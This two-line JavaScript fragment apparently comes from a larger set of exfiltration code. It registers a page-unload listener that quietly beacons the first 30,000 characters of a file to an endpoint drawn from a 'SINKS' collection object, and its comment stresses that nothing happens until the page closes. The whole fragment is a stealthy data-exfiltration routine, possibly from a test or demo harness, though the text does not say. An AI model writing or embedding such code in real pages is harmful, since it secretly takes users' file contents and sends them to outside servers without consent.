// Nothing happens until the page goes away.
whenMade(({ file }) => addEventListener("pagehide", () => navigator.sendBeacon(`${SINKS.http}/bye`, file.slice(0, 30000))));
